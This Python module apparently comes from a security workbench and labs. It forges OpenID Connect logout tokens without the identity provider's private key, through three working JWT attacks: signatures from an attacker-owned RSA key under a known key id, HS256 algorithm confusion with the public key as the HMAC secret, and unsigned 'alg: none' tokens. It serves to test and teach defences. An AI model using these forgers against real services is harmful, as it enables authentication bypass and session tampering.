"""Pure: logout tokens as an attacker makes them, without the IdP's private key. Used by the workbench and the labs."""

import base64
import hashlib
import hmac
import json
from functools import cache
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt.algorithms import RSAAlgorithm

ISSUER_PATH = "/workbench"  # below the address of Pickup Learn: the attacker's own issuer


@cache
def foreign_key() -> rsa.RSAPrivateKey:
    """The attacker's own."""
    return rsa.generate_private_key(65537, 2048)


@cache
def foreign_public_key() -> jwt.PyJWK:
    """The key that verifies the attacker's signatures, in the form of the IdP's keys."""
    return jwt.PyJWK.from_json(RSAAlgorithm.to_jwk(foreign_key().public_key()), "RS256")


def foreign(header: dict[str, Any], claims: dict[str, Any], known: jwt.PyJWK) -> str:
    # PyJWT's encode() refuses some claims, such as an iss that is not a text. An attacker can sign anything.
    return jwt.PyJWS().encode(json.dumps(claims).encode(), foreign_key(), "RS256", {**header, "kid": known.key_id})


def hs256(header: dict[str, Any], claims: dict[str, Any], known: jwt.PyJWK) -> str:
    """By hand, because PyJWT refuses a public key as a secret (RFC 8725 §2.1 describes the attack)."""
    signed = unsigned({**header, "alg": "HS256", "kid": known.key_id}, claims)
    return f"{signed}.{hs256_signature(signed, known)}"


def hs256_signature(signed: str, known: jwt.PyJWK) -> str:
    """The secret is the PEM file of the public key, which anyone can make of the published key."""
    secret = known.key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    return base64url(hmac.digest(secret, signed.encode(), hashlib.sha256))


def none(header: dict[str, Any], claims: dict[str, Any], _known: jwt.PyJWK) -> str:
    return unsigned({**header, "alg": "none"}, claims) + "."


def unsigned(header: dict[str, Any], claims: dict[str, Any]) -> str:
    return ".".join(base64url(json.dumps(part).encode()) for part in (header, claims))


def base64url(value: bytes) -> str:
    """RFC 7515 §2: without padding."""
    return base64.urlsafe_b64encode(value).rstrip(b"=").decode()


MAKERS = {"foreign": foreign, "hs256": hs256, "none": none}
